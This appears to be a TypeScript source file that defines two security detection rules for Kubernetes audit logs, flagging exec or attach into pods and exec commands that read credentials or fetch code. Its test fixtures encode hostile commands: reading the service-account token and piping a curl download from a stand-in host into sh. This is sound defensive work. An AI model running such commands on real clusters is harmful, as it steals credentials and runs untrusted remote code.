import { isSystemNamespace } from "../actors.ts";
import { incidents } from "../incidents.ts";
import { targetText } from "../words.ts";
import { commandOf, dangerOf } from "./commands.ts";

export const exec = incidents({
  id: "exec",
  about: "somebody ran a command in a pod, or attached to it",
  severity: "low",
  needs: ["metadata"],
  advice: "Ask what for; what an interactive shell did is not in the audit log.",
  references: [
    "T1609",
    "Falco: Attach/Exec Pod",
    "Sigma: kubernetes_audit_exec_into_container",
    "GuardDuty: ExecInKubeSystemPod",
  ],
  wants: "resource:pods/exec,pods/attach -actor:controller,apiserver,scheduler,node",
  usual: { user: "kofi", verb: "get", resource: "pods/exec", namespace: "shop", name: "web-1" },
  hits: [[{ resource: "pods/attach", code: 101 }], [{ verb: "create", query: "command=sh&stdin=true", code: 101 }]],
  misses: [[{ resource: "pods/log" }], [{ query: "command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fx", code: 101 }]],
  judge: ({ facts }) => {
    const command = commandOf(facts.uri);
    if (dangerOf(command) !== null) return null;
    const did =
      facts.subresource === "attach"
        ? (["attached to", "attach to"] as const)
        : (["ran a command in", "run a command in"] as const);
    const told = {
      did,
      what: `pod ${facts.namespace}/${facts.name}${command.length === 0 ? "" : `: ${command.join(" ").slice(0, 120)}`}`,
    };
    if (isSystemNamespace(facts.namespace))
      return { ...told, severity: "medium", why: "the pod is one of the cluster itself" };
    if (facts.actorClass === "serviceaccount")
      return { ...told, severity: "medium", why: "a service account did, not a person" };
    return facts.subresource === "attach" ? { ...told, severity: "medium", why: "attaching is rare" } : told;
  },
});

export const execCommand = incidents({
  id: "exec-command",
  about: "a command was run in a pod that reads credentials, opens a way out or leaves the container",
  severity: "high",
  needs: ["metadata"],
  advice:
    "Take the pod's tokens and passwords for known, renew them, and look at what the same person did before and after.",
  references: ["T1609", "T1552.001", "T1059.004", "T1105", "Stratus: k8s.credential-access.steal-serviceaccount-token"],
  wants: "resource:pods/exec -actor:controller,apiserver,scheduler,node",
  usual: { user: "kofi", verb: "get", resource: "pods/exec", namespace: "shop", name: "web-1", code: 101 },
  hits: [
    [{ query: "command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken" }],
    [{ verb: "create", query: "command=sh&command=-c&command=curl+http%3A%2F%2Fx%2Fa+%7C+sh" }],
  ],
  misses: [[{ query: "command=ls&command=%2Ftmp" }], [{ verb: "create", query: "command=sh&stdin=true" }]],
  judge: ({ facts }) => {
    const command = commandOf(facts.uri);
    const danger = dangerOf(command);
    if (danger === null) return null;
    return {
      did: ["ran", "run"],
      what: `${command.join(" ").slice(0, 120)} in pod ${targetText({ ...facts, resource: "", uri: `${facts.namespace}/${facts.name}` })}`,
      why: `it ${danger}`,
      key: `${facts.namespace}/${facts.name}`,
    };
  },
});
